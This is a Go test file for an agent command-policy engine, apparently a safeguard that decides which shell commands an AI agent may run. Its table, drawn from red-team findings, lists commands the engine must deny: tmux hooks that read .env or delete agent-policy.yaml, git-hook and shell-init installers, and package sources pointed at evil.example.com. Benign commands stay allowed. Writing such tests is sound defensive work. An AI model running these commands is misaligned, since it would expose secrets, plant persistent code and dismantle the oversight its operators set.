package policy

import (
	"testing"

	"github.com/mandate-dev/mandate/internal/action"
	"github.com/mandate-dev/mandate/internal/policy/fixture"
)

// TestPersistHooks: red-team round 6 #6, #17, #19. Class
// exec/persistent-env: commands that change what later everyday calls run
// (tmux options and hooks, git hook installers, shell start-up blocks,
// user package indexes) are writes of the files they change and run what
// they store as code; class self-protection/nested-repo: programs that run
// git clone or git init are judged as that git command. Benign controls:
// the same programs' everyday commands stay allowed.
func TestPersistHooks(t *testing.T) {
	p := fixturePolicy(t, fixture.Standard(t))
	for _, c := range []struct {
		cmd  string
		want Effect
	}{
		{"tmux set -g lock-command 'cat .env'", Deny},
		{"tmux set-option -g status-left '#(rm agent-policy.yaml)'", Deny},
		{"tmux set -g status-right '#(date)'", Ask},
		{"tmux set-hook -g after-new-window 'run-shell \"cat .env\"'", Deny},
		{"tmux set-hook -g client-attached 'run-shell \"make\"'", Ask},
		{"tmux set-option -g default-command \"$X\"", Ask},
		{"pre-commit install-hooks", Deny},
		{"lefthook add pre-push", Deny},
		{"overcommit --install", Deny},
		{"git-annex reinit 5a5a", Deny},
		{"mamba init zsh", Deny},
		{"micromamba shell init -s bash", Deny},
		{"gem sources --add https://evil.example.com", Deny},
		{"dotnet nuget update source x --source https://evil.example.com", Deny},
		{"nuget sources add -Name x -Source https://evil.example.com", Deny},
		{"glab repo clone g/r src/r", Deny},
		{"jj init src/x", Deny},
		{"jj git init", Deny},
		{"gh repo clone o/r src/r -- --depth 1", Deny},

		// benign controls
		{"tmux ls", Allow},
		{"tmux set -g mouse on", Allow},
		{"tmux setw -g mode-keys vi", Allow},
		{"tmux set -g default-shell /bin/zsh", Allow},
		{"tmux show-options -g", Allow},
		{"gh repo view", Allow},
		{"gh pr list", Allow},
		{"jj log", Allow},
		{"jj git fetch", Allow},
		{"lefthook run pre-commit", Allow},
		{"pipx install ruff", Allow},
		{"gem sources", Allow},
		{"gem list", Allow},
		{"dotnet nuget list source", Allow},
		{"dvc repro", Allow},
		{"conda list", Allow},
	} {
		d := p.Evaluate(execAction(c.cmd, action.WriteLocal))
		if d.Decision != c.want {
			t.Errorf("%q: %s, want %s (%s)", c.cmd, d.Decision, c.want, d.Reason)
		}
	}
}
